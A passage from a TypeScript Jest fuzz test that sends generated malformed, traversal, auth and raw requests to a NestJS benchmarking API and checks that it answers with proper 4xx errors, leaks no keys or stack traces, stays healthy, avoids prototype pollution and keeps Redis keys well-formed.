  { weight: 25, arbitrary: dataCaseArb },
  { weight: 25, arbitrary: compareCaseArb },
  { weight: 8, arbitrary: malformedCaseArb },
  { weight: 5, arbitrary: contentTypeCaseArb },
  { weight: 2, arbitrary: oversizedCaseArb },
  { weight: 12, arbitrary: catalogCaseArb },
  { weight: 8, arbitrary: methodCaseArb },
  { weight: 2, arbitrary: traversalCaseArb },
  { weight: 5, arbitrary: authCaseArb },
  { weight: 5, arbitrary: headerCaseArb },
  { weight: 3, arbitrary: rawCaseArb },
);

// ---------------------------------------------------------------------------------------------------------------
// Judging an answer.

const STACK_TRACE = /\n\s+at \S|\bat [\w.<>]+ \(|\.(ts|js):\d+:\d+/;

/** Why an outcome breaks the contract, or undefined. */
function problemWith(c: FuzzCase, outcome: Outcome): string | undefined {
  if (outcome.kind === 'failure') {
    if (outcome.error.startsWith('client refused')) return undefined;
    return `no answer: ${outcome.error}`;
  }
  const { status, body, headers } = outcome;
  if (status >= 500) return `status ${status}: ${body.slice(0, 300)}`;
  if (STACK_TRACE.test(body) && !c.path.startsWith('/docs'))
    return `stack trace or source path in body: ${body.slice(0, 300)}`;
  if (body.includes(ADMIN_API_KEY)) return 'admin key in the body';
  if (tenant.key && body.includes(tenant.key)) return 'tenant key in the body';
  if (status >= 200 && status < 400) {
    if (c.valid === false) return `status ${status} for invalid input`;
    return undefined;
  }
  if (status < 400) return `status ${status}`;
  if (c.valid === true)
    return `status ${status} for valid input: ${body.slice(0, 300)}`;
  if (c.statuses && !c.statuses.includes(status))
    return `status ${status}, expected one of ${c.statuses.join(', ')}: ${body.slice(0, 200)}`;
  if (c.method === 'HEAD') return undefined;
  let parsed: { statusCode?: unknown; message?: unknown; error?: unknown };
  try {
    parsed = JSON.parse(body) as typeof parsed;
  } catch {
    return `status ${status} without a JSON error body: ${JSON.stringify(body.slice(0, 200))}`;
  }
  const message = Array.isArray(parsed.message)
    ? parsed.message.join(' | ')
    : parsed.message;
  if (typeof message !== 'string' || message.trim() === '')
    return `status ${status} without a message: ${body.slice(0, 200)}`;
  if (parsed.statusCode !== status)
    return `statusCode ${String(parsed.statusCode)} in a ${status} answer`;
  if (!c.raw && headers['x-content-type-options'] !== 'nosniff')
    return `status ${status} without security headers`;
  if (c.mentions.length > 0 && !c.mentions.some((m) => message.includes(m)))
    return `message names none of ${JSON.stringify(c.mentions)}: ${message.slice(0, 300)}`;
  return undefined;
}

// ---------------------------------------------------------------------------------------------------------------

function gc(): void {
  setFlagsFromString('--expose-gc');
  (runInNewContext('gc') as () => void)();
}

const heapMb = (): number => {
  gc();
  gc();
  return process.memoryUsage().heapUsed / 1048576;
};

const NORMAL_COMPARE = {
  method: 'POST',
  path: `${B}/compare`,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({
    industry: 'retail',
    company_size: 'small',
    region: 'west',
    period: '2024-12-01',
    user_values: {
      revenue_per_employee: 180000,
      profit_margin: 0.1,
      customer_acquisition_cost: 150,
    },
  }),
};

jest.setTimeout(180_000);

describe('Hostile input (fuzz, e2e)', () => {
  let redis: PrivateRedis | undefined;
  let app: NestFastifyApplication;
  let port: number;
  let agent: Agent;

  beforeAll(async () => {
    redis = redisServerAvailable() ? await PrivateRedis.start() : undefined;
    if (!redis)
      console.warn(
        '\n*** NO redis-server: the fuzz suite runs on the in-process cache and skips the Redis key check. ***\n',
      );
    app = await createTestApp({
      env: {
        ADMIN_API_KEY,
        BODY_LIMIT_BYTES: String(BODY_LIMIT),
        // High enough never to refuse the fuzzer, so the limiter's Redis keys are still written and checked.
        RATE_LIMIT_PER_MINUTE: '1000000',
        ...(redis ? { REDIS_URL: redis.url, CACHE_PREFIX: PREFIX } : {}),
      },
    });
    await app.listen(0, '127.0.0.1');
    port = (app.getHttpServer().address() as { port: number }).port;
    const created = await app.inject({
      method: 'POST',
      url: `${B}/admin/tenants`,
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${ADMIN_API_KEY}`,
      },
      payload: JSON.stringify({ name: 'fuzz' }),
    });
    tenant.key = created.json<{ api_key: string }>().api_key;
    agent = new Agent({ keepAlive: true, maxSockets: CONCURRENCY });
  });

  afterAll(async () => {
    agent?.destroy();
    await app?.close();
    await redis?.stop();
  });

  it(`should answer ${RUNS}+ hostile requests with 4xx and a message (2xx where valid), never 5xx or a dropped connection, and stay healthy`, async () => {
    const normal = async () => send(port, NORMAL_COMPARE, agent);
    const before = await normal();
    expect(before).toMatchObject({ kind: 'answer', status: 200 });
    const prototypes = [
      Object.prototype,
      Array.prototype,
      Function.prototype,
      String.prototype,
    ].map((p) => Object.getOwnPropertyNames(p).sort());
    // Warm-up: JIT, caches, connections; then the baseline heap.
    for (const c of fc.sample(requestArb, { numRuns: 200, seed: SEED + 1 }))
      await run(c);
    const heapBefore = heapMb();

    const problems: string[] = [];
    const statuses = new Map<number | string, number>();
    let sent = 0;
    async function run(c: FuzzCase): Promise<Outcome> {
      const outcome = c.raw
        ? await sendRaw(port, c.body as Buffer)
        : await send(port, c, agent);
      return outcome;
    }
    // In chunks, so no more than one chunk of generated bodies is held at a time.
    const CHUNK = 500;
    for (let offset = 0; offset < RUNS; offset += CHUNK) {
      const cases = fc.sample(requestArb, {
        numRuns: Math.min(CHUNK, RUNS - offset),
        seed: SEED + offset,
      });
      let next = 0;
      await Promise.all(
        Array.from({ length: CONCURRENCY }, async () => {
          while (next < cases.length) {
            const c = cases[next++];
            const outcome = await run(c);
            sent++;
            const key =
              outcome.kind === 'answer' ? outcome.status : outcome.error;
            statuses.set(key, (statuses.get(key) ?? 0) + 1);
            const problem = problemWith(c, outcome);
            if (problem && problems.length < 20)
              problems.push(
                `${c.label} ${c.path.slice(0, 120)} body=${String(c.body ?? '').slice(0, 160)}: ${problem}`,
              );
          }
        }),
      );
    }
    console.log(
      `fuzz: ${sent} requests (seed ${SEED}); answers by status: ${JSON.stringify(Object.fromEntries([...statuses].sort()))}`,
    );
    expect(problems).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(RUNS);

    // Healthy, unpolluted, and still giving the same answer to a normal request.
    const health = await send(
      port,
      { method: 'GET', path: `${B}/health` },
      agent,
    );
    expect(health).toMatchObject({ kind: 'answer', status: 200 });
    expect(JSON.parse((health as { body: string }).body)).toMatchObject({
      status: 'healthy',
      cache: { status: 'up' },
    });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(
      [
        Object.prototype,
        Array.prototype,
        Function.prototype,
        String.prototype,
      ].map((p) => Object.getOwnPropertyNames(p).sort()),
    ).toEqual(prototypes);
    const after = await normal();
    expect(after).toMatchObject({ kind: 'answer', status: 200 });
    expect(JSON.parse((after as { body: string }).body)).toEqual(
      JSON.parse((before as { body: string }).body),
    );

    const growth = heapMb() - heapBefore;
    console.log(
      `fuzz: heap growth after GC ${growth.toFixed(1)} MB (bound ${HEAP_GROWTH_BOUND_MB} MB)`,
    );
    expect(growth).toBeLessThan(HEAP_GROWTH_BOUND_MB);

    if (redis) {
      const client = new Redis(redis.url, { maxRetriesPerRequest: 1 });
      try {
        const keys: string[] = [];
        let cursor = '0';
        do {
          const [nextCursor, batch] = await client.scan(cursor, 'COUNT', 1000);
          cursor = nextCursor;
          keys.push(...batch);
        } while (cursor !== '0');
        expect(keys.length).toBeGreaterThan(0);
        // Cache entries are <prefix>v3:<source>:<industry>:<size>:<region>:<metric>:<year>, built from catalog
        // words only; the rate limiter and counters live beside them under <namespace>#.
        const allowed = new RegExp(
          `^(${escape(PREFIX)}v3:[a-z0-9_.-]+(:[a-z0-9_.-]+)*|${escape(NAMESPACE)}#(throttle|counters):[A-Za-z0-9_.:{}-]+)$`,
        );
        expect(keys.filter((k) => !allowed.test(k))).toEqual([]);
      } finally {
        client.disconnect();
      }
    }
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
